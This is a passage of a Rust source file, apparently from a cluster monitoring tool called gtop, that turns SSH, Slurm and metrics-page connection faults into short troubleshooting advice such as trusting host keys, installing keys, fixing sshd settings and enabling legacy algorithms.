//! What to do about a node that is not connected.

use crate::advice::known::{Known, PublicKey, shell_quoted, shell_quoted_path};
use crate::advice::reader::Reader;
use crate::advice::steps::{Advice, Step};
use crate::fault::ssh::{Fault as SshFault, HostKeyChange};
use crate::fault::{
    ConnectPhase, Fault as Cause, KeyFileProblem, LoaderCause, Origin, ScrapeFault,
    SshProgramCause, StepCause, UnansweredReason, UnknownHostKey,
};
use crate::model::{Fault, FaultKind};

/// Printed by PAM on Linux for an expired account.
const ACCOUNT_EXPIRED: &str = "account has expired";

/// Printed by sshd or PAM for an expired password, in lower case.
const PASSWORD_EXPIRED: [&str; 2] = ["password has expired", "password change required"];

/// Most distributions call the unit `sshd`; Debian and Ubuntu call it `ssh`.
const RELOAD_SSHD: &str = "systemctl reload sshd || systemctl reload ssh";
const START_SSHD: &str = "systemctl start sshd || systemctl start ssh";

const SSH_CONFIG: &str = "~/.ssh/config";
const SSHD_CONFIG: &str = "/etc/ssh/sshd_config";

/// Algorithms that ssh still has but does not offer by itself, the better ones first (ssh(1), `ssh -Q`).
const OLD_ALGORITHMS: [&str; 17] = [
    "diffie-hellman-group-exchange-sha1",
    "diffie-hellman-group14-sha1",
    "diffie-hellman-group1-sha1",
    "ssh-rsa",
    "aes256-cbc",
    "aes192-cbc",
    "aes128-cbc",
    "3des-cbc",
    "umac-64@openssh.com",
    "hmac-sha1-etm@openssh.com",
    "hmac-sha1",
    "hmac-sha1-96-etm@openssh.com",
    "hmac-sha1-96",
    "hmac-md5-etm@openssh.com",
    "hmac-md5",
    "hmac-md5-96-etm@openssh.com",
    "hmac-md5-96",
];

/// Returns what to do about a node that is not connected.
pub fn for_fault(fault: &Fault, known: &Known) -> Advice {
    match fault.cause.as_deref() {
        Some(cause) => {
            let mut known = known.clone();
            let facts = fault.host.clone().or(known.facts.take());
            known.set_facts(facts);
            of_cause(cause, &known)
        }
        None => of_kind(fault.kind, &known.quoted_node(), &known.destination, known.reader),
    }
}

/// Returns what to do about several nodes with faults of the same kind and detail, by their node set.
pub fn of_alike(fault: &Fault, nodes: &str, reader: Reader) -> Advice {
    if fault.kind == FaultKind::NameNotFound && nodes.split(',').all(is_word) {
        return "no such command either (gtop --help lists them); check the spelling, or add a Host entry to ~/.ssh/config"
            .into();
    }
    let nodes = shell_quoted(nodes);
    if let Some(Cause::Ssh(cause)) = fault.cause.as_deref() {
        if matches!(
            cause.root(),
            SshFault::HostKeyUnknown { .. }
                | SshFault::HostCertificateRefused { .. }
                | SshFault::SshProgram { cause: SshProgramCause::HostKeyUnknown, .. }
        ) {
            return trust(&nodes, reader).into();
        }
        if let SshFault::AtGateway { gateway, fault: at_gateway } = cause {
            // All of them wait for the gateway.
            let mut known = Known::of_destination(gateway);
            known.reader = reader;
            known.set_facts(fault.host.clone());
            return known.of_ssh(at_gateway);
        }
        let root = cause.root();
        if matches!(
            root,
            SshFault::PasswordOnly { .. }
                | SshFault::MoreAuthenticationRequired { .. }
                | SshFault::HostKeyNotKept { .. }
        ) && fault.host.as_ref().is_none_or(|facts| facts.shares_logins)
        {
            return log_in(&nodes, reader).into();
        }
        if matches!(root, SshFault::NeedsSshProgram { .. } | SshFault::UnsupportedAlgorithms { .. })
        {
            return use_ssh_program(&nodes).into();
        }
        if let SshFault::AuthenticationRefused { offers, .. } = root
            && !offers.iter().any(|offer| offer == "publickey")
        {
            return "check the login name; the nodes take no key".into();
        }
    }
    of_kind(fault.kind, &nodes, "HOST", reader)
}

/// Returns what to do about a node by the kind of its fault alone, without what only some may know, such as the name of a
/// user.
pub fn in_public(kind: FaultKind, node: &str) -> Advice {
    of_kind(kind, &shell_quoted(node), "HOST", Reader::Program)
}

/// Returns what to do by the kind of fault alone. `nodes` is one node or a node set, `destination` one for ssh.
fn of_kind(kind: FaultKind, nodes: &str, destination: &str, reader: Reader) -> Advice {
    let reconnects = reader.reconnects();
    let words = match kind {
        FaultKind::NameNotFound => "check the spelling, or add a Host entry to ~/.ssh/config",
        FaultKind::Unreachable => "check the network and whether the node is up",
        FaultKind::Refused => "check that sshd runs there and that the port is right",
        FaultKind::TimedOut => {
            "the node or the network path to it hangs; try ssh by hand, or raise --connect-timeout"
        }
        FaultKind::KeyExchange => "the server is too old or is no SSH server; try ssh -v by hand",
        FaultKind::HostKeyUnknown => {
            let command = format!("gtop trust {nodes}");
            return Step::run("check the fingerprint and run", command).into();
        }
        FaultKind::HostKeyChanged => {
            "ask the administrator; if the change is expected, remove the old key with ssh-keygen -R"
        }
        FaultKind::HostKeyRevoked => "do not connect; ask the administrator",
        FaultKind::AuthenticationRefused => {
            let command = format!("gtop doctor {nodes}");
            return Step::run("check the login name and the key; this tells more", command).into();
        }
        FaultKind::PromptUnanswered if reader.has_keys() => {
            "press R to answer it, or start gtop again from a terminal"
        }
        FaultKind::PromptUnanswered => "start gtop from a terminal, and answer there",
        FaultKind::KeyLocked => {
            "load it with ssh-add, or start gtop from a terminal and type the passphrase"
        }
        FaultKind::Configuration => {
            let words = "fix ~/.ssh/config; this prints the options in effect";
            return Step::run(words, format!("ssh -G {destination}")).into();
        }
        FaultKind::ChannelRefused => {
            "close other sessions to that node (MaxSessions), or ask the administrator"
        }
        FaultKind::NoInterpreter => {
            let command = format!("ssh {destination} /bin/sh -c true");
            return Step::run("check the login shell", command).into();
        }
        FaultKind::Silent => return Advice::words(format!("look at the node; {reconnects}")),
        FaultKind::BadReply => {
            let command = format!("ssh {destination} true");
            return Step::run("check what the login files print", command).into();
        }
        FaultKind::NoBanner => {
            const WORDS: &str = "sshd may be refusing connections for now (MaxStartups)";
            return Advice::words(format!("{WORDS}; {reconnects}"));
        }
        FaultKind::AccountRefused if !reader.has_keys() => "the node says why",
        FaultKind::AccountRefused => {
            "the node says why; gtop retries every few minutes, or press R to retry now"
        }
        FaultKind::NoJob if !reader.has_keys() => "run a job there: gtop --slurm watches its nodes",
        FaultKind::NoJob => {
            "gtop retries every few minutes, and at once when a job of yours starts there (gtop --slurm) or on R"
        }
        FaultKind::FileLimit => FILE_LIMIT,
        FaultKind::PageNotReached => PAGE_NOT_REACHED,
        FaultKind::PageNotReadable => PAGE_NOT_READABLE,
        FaultKind::SessionLost => reconnects,
    };
    words.into()
}

const PAGE_NOT_REACHED: &str =
    "check that the exporter runs on the host, and listens on an address that this machine reaches";
const PAGE_NOT_READABLE: &str = "give the page of nvitop-exporter or node_exporter, such as http://HOST:9100/metrics, or the host itself, to watch it over SSH";

const FILE_LIMIT: &str = "monitor fewer nodes, or raise the limit (ulimit -Hn shows it)";

/// Returns what to do about a fault of the connection.
pub fn of_cause(cause: &Cause, known: &Known) -> Advice {
    match cause {
        Cause::Ssh(fault) => known.of_ssh(fault),
        Cause::ExecFailed { .. } => {
            "run the command by hand; it must pass standard input to a shell on the node, \
             or take the command line to run as {command}"
                .into()
        }
        Cause::JobStep { cause, .. } => of_step(*cause, known.reader),
        Cause::Scrape(fault) => of_page(fault),
        Cause::Loader { cause, is_by_ssh: true, .. } => known.of_loader(*cause),
        Cause::Loader { cause, is_by_ssh: false, .. } => of_command(*cause, known.reader),
    }
}

/// Returns what to do about a page of metrics that is not read.
fn of_page(fault: &ScrapeFault) -> Advice {
    let words = match fault {
        ScrapeFault::NameNotFound => "check the spelling of the host in the address of the page",
        ScrapeFault::Refused { .. } | ScrapeFault::TimedOut { .. } | ScrapeFault::Lost { .. } => {
            PAGE_NOT_REACHED
        }
        ScrapeFault::Status { status: 401 | 403 | 407, .. } => {
            "gtop sends no login: let the exporter serve this machine without one, or give the host itself, to watch it over SSH"
        }
        ScrapeFault::Status { location: Some(_), .. } => {
            "give the address that it points to, if it is the right one"
        }
        ScrapeFault::Status { .. } => "check the path: most exporters serve their page at /metrics",
        ScrapeFault::TooLarge => {
            "give the page of one exporter, or turn off the collectors of it that nobody reads"
        }
        ScrapeFault::NotHttp | ScrapeFault::NotText | ScrapeFault::OtherFamilies { .. } => {
            PAGE_NOT_READABLE
        }
        ScrapeFault::OnlyPage => "give the host itself, to reach it over SSH",
    };
    words.into()
}

/// Returns what to do if the host key of a node cannot be fetched to be trusted.
pub fn of_untrusted(fault: &SshFault, known: &Known) -> Advice {
    // ssh asks for the keys of gateways too, and stores them.
    let accept = known.accept_with_ssh();
    let root = fault.root();
    if matches!(root, SshFault::NeedsSshProgram { .. } | SshFault::UnsupportedAlgorithms { .. }) {
        let is_of_node = !matches!(fault, SshFault::AtGateway { .. });
        if is_of_node && known.unknown_host_key() != UnknownHostKey::Kept {
            return known.of_key_kept_nowhere();
        }
        return accept.into();
    }
    let SshFault::NoCommonAlgorithm { kind, theirs, .. } = root else {
        return known.of_ssh(fault);
    };
    if theirs.iter().any(|name| !is_old(name)) {
        return accept.into();
    }
    let mut at = known.clone();
    if let SshFault::AtGateway { gateway, .. } = fault {
        at = known.gateway(gateway);
    }
    let allow = at.of_algorithms(kind, theirs).steps.into_iter().take(1);
    Advice::default().then(allow).then([accept.and()])
}

/// Returns what to do about two hosts with different keys under one name of `known_hosts`.
pub fn of_shared_name() -> Advice {
    "give each of them a HostKeyAlias of its own in ~/.ssh/config; if they are one host, ask the administrator".into()
}

/// Returns true if the name of a node looks like a command.
fn is_word(name: &str) -> bool {
    name.chars().all(|letter| letter.is_ascii_lowercase() || letter == '-')
}

/// Returns true if ssh does not offer an algorithm by itself.
fn is_old(name: &str) -> bool {
    let is_marker = name.starts_with("ext-info") || name.starts_with("kex-strict");
    is_marker || OLD_ALGORITHMS.contains(&name)
}

/// Returns what to do about a login shell that starts the probe late.
pub fn of_slow_shell(known: &Known) -> Advice {
    known.slow_shell().into()
}

/// Returns what to do about a command of `--exec` that does not start the probe.
fn of_command(cause: LoaderCause, reader: Reader) -> Advice {
    let words = match cause {
        LoaderCause::Waiting | LoaderCause::Slow if !reader.is_served() => {
            "run the command of --exec by hand, to see what it waits for"
        }
        LoaderCause::Waiting | LoaderCause::Slow => {
            "run the command of --exec by hand, to see what it waits for; gtop goes on waiting"
        }
        LoaderCause::CannotRun => "install what the message names on the node",
        LoaderCause::ReadsInput
        | LoaderCause::OtherProgram
        | LoaderCause::Restricted
        | LoaderCause::NoShell
        | LoaderCause::PasswordExpired
        | LoaderCause::Ended
        | LoaderCause::EndedWithOutput => {
            "run the command of --exec by hand: it must start /bin/sh on the node and pass its input on"
        }
    };
    words.into()
}

/// Returns what to do about a Slurm step that failed or has ended.
pub fn of_step(cause: StepCause, reader: Reader) -> Advice {
    const NO_ACTION: &str = "no action is needed";
    const BY_HAND: &str = "try srun --overlap --jobid=JOB hostname by hand";
    const RETRIES: &str = "gtop retries; or try srun --overlap --jobid=JOB hostname by hand";
    const RESTART: &str =
        "gtop does not interrupt the other nodes of the job; restart gtop to start a new step";
    let words = match cause {
        StepCause::TooOld => "use ssh; srun needs Slurm 22.05 or later",
        StepCause::NoJob => "--transport srun reaches only nodes of your own running jobs",
        StepCause::Refused => "is the job yours? try srun --overlap --jobid=JOB hostname by hand",
        StepCause::Cancelled | StepCause::NodeFailed if !reader.is_served() => {
            "see sinfo -R, and run gtop again"
        }
        StepCause::NotJoined if !reader.is_served() => "run gtop again once its task has started",
        StepCause::Cancelled => "a new step starts if the job is still running",
        StepCause::NotRunning
        | StepCause::JobCancelled
        | StepCause::Preempted
        | StepCause::TimeLimit => NO_ACTION,
        StepCause::NodeFailed => "see sinfo -R; a new step starts for the other nodes",
        StepCause::Busy | StepCause::Other if !reader.is_served() => BY_HAND,
        StepCause::Busy | StepCause::Other => RETRIES,
        StepCause::ControllerUnreachable if !reader.is_served() => "see scontrol ping",
        StepCause::ControllerUnreachable => "gtop retries; see scontrol ping",
        StepCause::TaskEnded | StepCause::NotInStep => RESTART,
        StepCause::TryingOtherJob | StepCause::Restarted => reader.reconnects(),
        StepCause::NotJoined => "it appears once its task has started; otherwise restart gtop",
    };
    words.into()
}

/// Returns true if the node offers a login without a key.
fn offers_login_without_key(offers: &[String]) -> bool {
    offers.iter().any(|offer| offer == "password" || offer == "keyboard-interactive")
}

/// Returns the signature algorithm for a type of key: never SHA-1.
fn signature_algorithm(kind: &str) -> &str {
    if kind == "ssh-rsa" { "rsa-sha2-512" } else { kind }
}

fn use_ssh_program(nodes: &str) -> Step {
    Step::run("use the ssh program", format!("gtop --transport ssh {nodes}"))
}

/// Returns how to accept unknown host keys.
fn trust(nodes: &str, reader: Reader) -> Step {
    let words = if reader.has_keys() {
        "press A to see the key and answer, or run"
    } else {
        "compare the fingerprint with the administrator's, then"
    };
    Step::run(words, format!("gtop trust {nodes}"))
}

/// Returns how to log in once, so that gtop shares the connection.
fn log_in(nodes: &str, reader: Reader) -> Step {
    let words = if reader.has_keys() {
        "press L to log in, or run"
    } else {
        "log in once, and gtop shares the connection"
    };
    Step::run(words, format!("gtop login {nodes}"))
}

/// Returns the option for algorithms of this kind.
fn algorithm_option(kind: &str) -> &'static str {
    match kind {
        "host key" => "HostKeyAlgorithms",
        "cipher" => "Ciphers",
        "MAC" => "MACs",
        _ => "KexAlgorithms",
    }
}

impl Known {
    /// Returns where to change an option: the line that sets it, or the file to add it to.
    fn correct_option(&self, name: &str) -> String {
        if self.is_in_name(name) {
            return format!("correct the {} of {}", name.to_lowercase(), self.node);
        }
        match self.origin(name) {
            Some(origin) => format!("correct {name} in {origin}"),
            None => format!("set {name} for {} in ~/.ssh/config", self.host),
        }
    }

    /// Returns what to add to `~/.ssh/config`, where the first value counts. The final `Host *` ends the
    /// section of the node.
    fn ssh_config(&self, then: &str, lines: &[&str]) -> Step {
        let lines = lines.iter().map(|line| format!("  {line}"));
        let host = std::iter::once(format!("Host {}", self.host));
        let lines = host.chain(lines).chain(["Host *".to_owned()]).collect();
        Step::put(SSH_CONFIG, format!("add at the top of {SSH_CONFIG}{then}"), lines)
    }

    /// Returns what an administrator adds to `sshd_config`, where the first value counts.
    fn sshd_config(&self, line: &str) -> Step {
        let words = format!(
            "add at the top of {SSHD_CONFIG}, outside any Match block, then run {RELOAD_SSHD}"
        );
        Step::put(SSHD_CONFIG, words, vec![line.to_owned()]).with_root_on(&self.host)
    }

    /// Returns how an administrator allows logins with keys.
    fn allow_keys(&self) -> Step {
        self.sshd_config("PubkeyAuthentication yes")
    }

    fn as_root(&self, command: impl Into<String>) -> Step {
        Step::run("", command).with_root_on(&self.host)
    }

    /// Returns the `ssh-copy-id` command.
    fn copy_id(&self) -> String {
        let file = self.key_file().map(|file| format!("-i {file} ")).unwrap_or_default();
        format!("ssh-copy-id {file}{}", self.destination)
    }

    /// Returns what to ask of the administrator if the key cannot be installed by logging in.
    fn add_key(&self, key: &str, user: &str) -> String {
        let location = match self.user(user) {
            Some(user) => format!("~{user}/.ssh/authorized_keys"),
            None => "the authorized_keys of your account".to_owned(),
        };
        format!("ask the administrator to add {key} to {location} on {}", self.host)
    }

    /// Returns how to create a key and install it, by password login or by the administrator.
    fn new_key(&self, user: &str, offers: &[String]) -> Step {
        let file = self.key_file();
        let option = file.iter().map(|file| format!(" -f {file}"));
        let keygen =
            std::iter::once("ssh-keygen -t ed25519".to_owned()).chain(option).collect::<String>();
        if offers_login_without_key(offers) {
            let command = format!("{keygen} && {}", self.copy_id());
            return Step::run("create a key and install it on the node", command);
        }
        let file = file.unwrap_or("~/.ssh/id_ed25519".into());
        let add = self.add_key(&format!("{file}.pub"), user);
        Step::run(format!("{add}, after creating it with"), keygen)
    }

    /// Returns the public key of the first configured file that was tried. Other entries of `tried` are free
    /// text, partly from the node.
    fn public_key(&self, tried: &[String]) -> Option<&PublicKey> {
        tried
            .iter()
            .map(|what| what.trim_end_matches(" in the agent"))
            .find_map(|what| self.keys.iter().find(|key| key.identity == what))
    }

    /// Returns what to do about a refused key; the reason is only in the log of sshd.
    fn authorize_key(&self, user: &str, offers: &[String], tried: &[String]) -> Advice {
        let key = self.public_key(tried);
        let install = if offers_login_without_key(offers) {
            Step::run("install your key on the node", self.copy_id())
        } else {
            Step::words(self.add_key(key.map_or("your public key", |key| &key.file), user))
        };
        let correct = Step::words(self.correct_option("User")).or();
        let accept_algorithm = key.and_then(|key| key.kind.as_deref()).map(|kind| {
            let kind = signature_algorithm(kind);
            let words = format!("add {kind} to PubkeyAcceptedAlgorithms in {SSHD_CONFIG}, then");
            Step::run(words, RELOAD_SSHD).with_root_on(&self.host)
        });
        // Run as the user, because the user's folder may contain links to anywhere.
        let fix_modes = self.user(user).map(|user| {
            self.as_root(format!(
                "runuser -u {user} -- chmod go-w ~{user} ~{user}/.ssh ~{user}/.ssh/authorized_keys"
            ))
        });
        let log_in = offers_login_without_key(offers).then(|| self.log_in_once().or());
        let by_log = [
            ("not in PubkeyAcceptedAlgorithms", accept_algorithm),
            ("bad ownership or modes", fix_modes),
            ("because shell", self.set_shell(user)),
        ];
        let by_log = by_log
            .into_iter()
            .filter_map(|(logged, step)| Some(step?.when(&format!("its sshd logs \"{logged}\""))));
        Advice::from(install).then(log_in).then([correct]).then(by_log)
    }

    /// Returns what to do where the node takes neither a key nor a password.
    fn without_key(&self, offers: &[String]) -> Advice {
        if offers_login_without_key(offers) {
            return self.log_in().then([self.allow_keys().or()]);
        }
        let offers = |method: &str| offers.iter().any(|offer| offer == method);
        let kerberos = offers("gssapi-with-mic").then(|| {
            Step::run("get a ticket of Kerberos, and set GSSAPIAuthentication yes", "kinit")
        });
        let hosts = offers("hostbased").then(|| {
            let words = format!(
                "ask the administrator of {} to accept logins from this machine (HostbasedAuthentication), and the one \
                 of this machine to allow them (EnableSSHKeysign)",
                self.host
            );
            Step::words(words)
        });
        let mut steps: Vec<Step> = kerberos.into_iter().chain(hosts).collect();
        steps.push(self.allow_keys());
        steps.iter_mut().skip(1).for_each(|step| *step = step.clone().or());
        Advice { steps }
    }

    #[expect(clippy::too_many_lines, reason = "a line or two for each fault")]
    fn of_ssh(&self, fault: &SshFault) -> Advice {
        let Self { destination, .. } = self;
        let node = self.quoted_node();
        let (address, port) = (self.address(), self.port());
        match fault {
            SshFault::NameNotFound { host, .. } => {
                let host = host.as_deref().unwrap_or(&self.host);
                let words = if self.is_like_command(host) {
                    "no such command either (gtop --help lists them); check the spelling"
                } else {
                    "check the spelling"
                };
                let check = Step::run(words, format!("getent hosts {}", shell_quoted(host)));
                Advice::from(check).then([Step::words(self.correct_option("HostName")).or()])
            }
            SshFault::Unreachable { .. } => Step::run(
                "check that it is up and reachable from this network",
                format!("ping -c 3 {address}"),
            )
            .into(),
            SshFault::TooManyOpenFiles => FILE_LIMIT.into(),
            SshFault::ConnectionRefused { port } => {
                let correct = self.correct_option("Port");
                Advice::from(self.as_root(START_SSHD))
                    .then([Step::words(format!("{correct} if it is not {port}")).or()])
            }
            SshFault::TimedOut { phase, .. } => {
                let is_slow = *phase == ConnectPhase::BannerExchange;
                Advice::from(self.for_timeout(*phase)).then(is_slow.then(|| self.wait_longer()))
            }
            SshFault::OtherProtocol { .. } => {
                "ask the administrator for a newer sshd: protocol 1 is broken, and neither gtop nor ssh speaks it".into()
            }
            SshFault::NoBanner { is_closed: true, .. } => Advice::words(format!(
                "sshd may refuse new connections for now (MaxStartups): {}",
                self.reader.reconnects()
            ))
            .then([Step::words(format!("if the port is wrong, {}", self.correct_option("Port")))]),
            SshFault::NoBanner { .. } => {
                Step::words(format!(
                    "no SSH server listens on the port; if the port is wrong, {}",
                    self.correct_option("Port")
                ))
                .into()
            }
            SshFault::NoCommonAlgorithm { kind, ours, theirs } => {
                let update = self.of_algorithms(kind, theirs);
                // Without a list of gtop's own, the ssh program found none in common either.
                if ours.is_empty() || self.origin(algorithm_option(kind)).is_some() {
                    return update;
                }
                if let Some(line) = self.old_algorithm(kind, theirs) {
                    return Advice::from(line).then([self.use_ssh_program().and()]);
                }
                Advice::from(self.use_ssh_program()).then(update.steps.into_iter().map(Step::or))
            }
            SshFault::HostKeyUnknown { .. } => self.trust().into(),
            SshFault::HostKeyNotKept { .. } => self.of_key_kept_nowhere(),
            SshFault::HostCertificateRefused { .. } => Step::run(
                "have the certificate renewed, or compare the fingerprint, then",
                format!("gtop trust {node}"),
            )
            .into(),
            SshFault::HostKeyChanged(change) => self.of_changed_key(change),
            SshFault::HostKeyRevoked { at, .. } => self.of_revoked_key(Some(at)),
            SshFault::AuthenticationRefused { user, offers, .. } if fault.had_no_key() => {
                let log_in =
                    offers_login_without_key(offers).then(|| self.log_in_once().or());
                Advice::from(self.new_key(user, offers)).then(log_in)
            }
            SshFault::AuthenticationRefused { user, offers, tried }
                if offers.iter().any(|offer| offer == "publickey") =>
            {
                self.authorize_key(user, offers, tried)
            }
            SshFault::AuthenticationRefused { offers, .. } => self.without_key(offers),
            SshFault::TooManyKeys { .. } => {
                let then = ", with the key that the node accepts as FILE (FILE.pub for a key in the agent)";
                self.ssh_config(then, &["IdentityFile FILE", "IdentitiesOnly yes"]).into()
            }
            SshFault::MoreAuthenticationRequired { required, .. }
                if required.iter().any(|method| method == "publickey") =>
            {
                Step::run("the node wants a second key: load another one that it accepts", "ssh-add FILE").into()
            }
            SshFault::MoreAuthenticationRequired { .. } => self.log_in(),
            SshFault::PasswordOnly { .. } => self.log_in().then([
                self.allow_keys().or(),
                Step::run("install your key on the node", self.copy_id()).and(),
            ]),
            SshFault::PromptUnanswered { why, .. } => self.of_prompt(*why),
            SshFault::KeyUnusable { file, problem: KeyFileProblem::Unprotected, .. } => {
                Step::run("", format!("chmod 600 {}", shell_quoted_path(file))).into()
            }
            SshFault::KeyUnusable { problem: KeyFileProblem::AlgorithmExcluded(kind), .. } => {
                let kind = signature_algorithm(kind);
                self.ssh_config("", &[&format!("PubkeyAcceptedAlgorithms +{kind}")]).into()
            }
            SshFault::KeyUnusable { problem: KeyFileProblem::TooShort(_), offers, .. } => {
                self.new_key("", offers).into()
            }
            SshFault::KeyEncrypted { file } => {
                let file = shell_quoted_path(file);
                let agent =
                    if self.has(|facts| facts.has_agent) { "" } else { "eval $(ssh-agent) && " };
                Step::run(
                    "start gtop from a terminal, or load the key",
                    format!("{agent}ssh-add {file}"),
                )
                .into()
            }
            SshFault::AgentUnreachable { .. } => Step::run(
                "start an agent and add your key FILE",
                "eval $(ssh-agent) && ssh-add FILE",
            )
            .into(),
            SshFault::ChannelRefused { .. } => Advice::words("close other sessions")
                .then([self.sshd_config("MaxSessions 100").or()]),
            SshFault::CommandRefused => {
                "ask the administrator to let this account run commands".into()
            }
            SshFault::NeedsSshProgram { .. } | SshFault::UnsupportedAlgorithms { .. } => {
                self.use_ssh_program().into()
            }
            // The key of a gateway is asked about on the way to the node.
            SshFault::AtGateway { fault, .. }
                if matches!(
                    fault.root(),
                    SshFault::HostKeyUnknown { .. } | SshFault::HostCertificateRefused { .. }
                ) =>
            {
                self.of_ssh(fault)
            }
            SshFault::AtGateway { gateway, fault } => self.gateway(gateway).of_ssh(fault),
            SshFault::GatewayCannotReach { gateway, .. } => {
                let gateway = Self::of_destination(gateway).destination;
                let check = Step::run(
                    "check from the gateway whether the node answers",
                    format!("ssh {gateway} nc -zv {address} {port}"),
                );
                let start = self.as_root(START_SSHD).when("nothing listens there");
                Advice::from(check).then([start])
            }
            SshFault::GatewayForwardingRefused { gateway, .. } => {
                let gateway = self.gateway(gateway);
                let renew = gateway.renew_password().when("the password there has expired");
                Advice::from(gateway.sshd_config("AllowTcpForwarding yes")).then([
                    Step::words(format!("add {address}:{port} to PermitOpen if it is set")).and(),
                    renew,
                ])
            }
            SshFault::ProxyCommandFailed { command, .. } => {
                Advice::from(Step::run("run it by hand", command.as_str()))
                    .then([Step::words(self.correct_option("ProxyCommand")).or(), self.wait_longer()])
            }
            SshFault::SshProgram { cause: SshProgramCause::HostKeyUnknown, .. }
                if self.unknown_host_key() != UnknownHostKey::Kept =>
            {
                self.of_key_kept_nowhere()
            }
            SshFault::SshProgram { cause: SshProgramCause::HostKeyUnknown, .. } => {
                self.accept_with_ssh().into()
            }
            SshFault::SshProgram { cause: SshProgramCause::HostKeyRevoked, .. } => {
                self.of_revoked_key(None)
            }
            SshFault::SshProgram { cause: SshProgramCause::Configuration, .. }
            | SshFault::BadConfiguration { .. } => {
                Step::run("correct it, then check it with", format!("ssh -G {destination}")).into()
            }
            SshFault::SshProgram { cause: SshProgramCause::Other, .. } => self.by_hand().into(),
            SshFault::ConnectionLost { .. } | SshFault::SessionLost { .. } => {
                Advice::words(self.reader.reconnects()).then([self.by_hand().or()])
            }
            SshFault::AccountRefused { user, message } => self.of_account(user, message),
            SshFault::JobRequired { .. } => {
                let host = shell_quoted(&self.host);
                Advice::from(Step::run("submit a job to this node", format!("salloc -w {host}")))
                    .then([Step::run("if one of your jobs runs there", "gtop --slurm --transport srun")])
            }
            SshFault::ProgramNotFound(error) => Step::words(format!(
                "install {}, or specify another one (--ssh-binary=PROGRAM, --exec 'PROGRAM …')",
                error.program
            ))
            .into(),
        }
    }

    /// Returns true if the user may have meant a command: the node is a word, and its name is the one that is looked up.
    fn is_like_command(&self, host: &str) -> bool {
        host == self.node && self.node == self.watched && is_word(host)
    }

    /// Returns what is known of a gateway: what `ProxyJump` names.
    fn gateway(&self, gateway: &str) -> Self {
        let mut known = Self::of_destination(gateway);
        known.reader = self.reader;
        known.watched.clone_from(&self.watched);
        known.facts.clone_from(&self.facts);
        known
    }

    fn wait_longer(&self) -> Step {
        let command = format!("gtop --connect-timeout 60 {}", self.watched);
        Step::run("wait longer", command).when("it is only slow")
    }

    fn trust(&self) -> Step {
        trust(&self.quoted_node(), self.reader)
    }

    fn accept_with_ssh(&self) -> Step {
        let words = "compare the fingerprint with the administrator's, and answer yes to";
        let ask = "-o StrictHostKeyChecking=ask -o BatchMode=no";
        Step::run(words, format!("ssh {ask} {} true", self.destination))
    }

    /// Returns what to do about a host key that is unknown and would be forgotten again.
    fn of_key_kept_nowhere(&self) -> Advice {
        let correct = Step::words(self.correct_option("UserKnownHostsFile"));
        if self.unknown_host_key() == UnknownHostKey::Refused {
            // ssh refuses the key in a login as well.
            return Advice::from(correct).then([self.trust().and()]);
        }
        Advice::from(self.log_in_once()).then([correct.or(), self.trust().and()])
    }

    fn of_changed_key(&self, change: &HostKeyChange) -> Advice {
        let words = "ask the administrator; if the node was reinstalled";
        if change.at.file.starts_with("/etc") {
            let (file, host) = (shell_quoted_path(&change.at.file), shell_quoted(&change.host));
            let remove = Step::run(words, format!("ssh-keygen -f {file} -R {host}"));
            let trust = format!("gtop trust {}", self.quoted_node());
            return Advice::from(remove.with_root_on("this machine"))
                .then([Step::run("run", trust).and()]);
        }
        let command = format!(
            "ssh-keygen -f {} -R {} && gtop trust {}",
            shell_quoted_path(&change.at.file),
            shell_quoted(&change.host),
            self.quoted_node()
        );
        Step::run(words, command).into()
    }

    fn of_revoked_key(&self, at: Option<&Origin>) -> Advice {
        let unless = at.map(|at| format!(", unless {at} is wrong")).unwrap_or_default();
        Step::words(format!("do not connect; {} needs a new host key{unless}", self.host)).into()
    }

    /// Returns what to do about algorithms of which the two sides have none in common.
    fn of_algorithms(&self, kind: &str, theirs: &[String]) -> Advice {
        let option = algorithm_option(kind);
        if let Some(origin) = self.origin(option) {
            return Step::words(format!(
                "correct {option} in {origin}, or in the node's sshd_config"
            ))
            .into();
        }
        let update = Step::words(format!(
            "add an algorithm that gtop supports to {option} in the node's sshd_config"
        ));
        match self.old_algorithm(kind, theirs) {
            Some(line) => Advice::from(line).then([update.or()]),
            None => update.into(),
        }
    }

    /// Returns how to allow the best of the node's algorithms that ssh has and does not offer by itself.
    fn old_algorithm(&self, kind: &str, theirs: &[String]) -> Option<Step> {
        let old = OLD_ALGORITHMS.iter().find(|old| theirs.iter().any(|name| name == *old))?;
        Some(self.ssh_config("", &[&format!("{} +{old}", algorithm_option(kind))]))
    }

    fn of_prompt(&self, why: UnansweredReason) -> Advice {
        match why {
            UnansweredReason::ChangedHostKey => {
                "check that key, then correct known_hosts: no answer is sent to a host whose key has changed".into()
            }
            UnansweredReason::TooManyPrompts(_) | UnansweredReason::TooManyRounds => {
                self.by_hand().into()
            }
            UnansweredReason::PromptsClosed | UnansweredReason::Skipped | UnansweredReason::HungUp
                if self.reader.has_keys() =>
            {
                Advice::words("press R to answer it").then([self.log_in_once().or()])
            }
            UnansweredReason::NoTerminal
            | UnansweredReason::MasterOpen
            | UnansweredReason::PromptsClosed
            | UnansweredReason::Skipped
            | UnansweredReason::HungUp => Advice::from(self.log_in_once())
                .then([Step::words("start gtop from a terminal and answer there, or log in with a key").or()]),
        }
    }

    /// Returns how to log in once, so that gtop shares the connection.
    fn log_in_once(&self) -> Step {
        let node = self.quoted_node();
        if self.has(|facts| facts.shares_logins) {
            return log_in(&node, self.reader);
        }
        let auto = "--transport auto";
        let command = format!("gtop login {auto} {node} && gtop {auto} {}", self.watched);
        Step::run("log in once, and let gtop use the ssh program", command)
    }

    /// Returns how to log in once: by gtop, or with a master connection of ssh.
    fn log_in(&self) -> Advice {
        let login = Advice::from(self.log_in_once());
        if !self.has(|facts| facts.shares_logins) {
            return login;
        }
        let destination = &self.destination;
        let master = if self.value("ControlPath").is_empty() {
            let then = format!(", then run ssh -fNM {destination}");
            self.ssh_config(&then, &["ControlPath ~/.ssh/%C"])
        } else {
            Step::run("open a master connection", format!("ssh -fNM {destination}"))
        };
        login.then([master.or()])
    }

    fn of_account(&self, user: &str, says: &str) -> Advice {
        let lower = says.to_lowercase();
        if PASSWORD_EXPIRED.iter().any(|text| lower.contains(text)) {
            return self.renew_password().into();
        }
        if lower.contains(ACCOUNT_EXPIRED) {
            return match self.user(user) {
                Some(user) => self.as_root(format!("chage -E -1 {user}")).into(),
                None => "ask the administrator of the node to extend the account".into(),
            };
        }
        let nologin = self.as_root("rm -f /etc/nologin /run/nologin");
        Advice::words("ask the administrator of the node about this message")
            .then([nologin.when("it comes from a nologin file that is out of date")])
    }

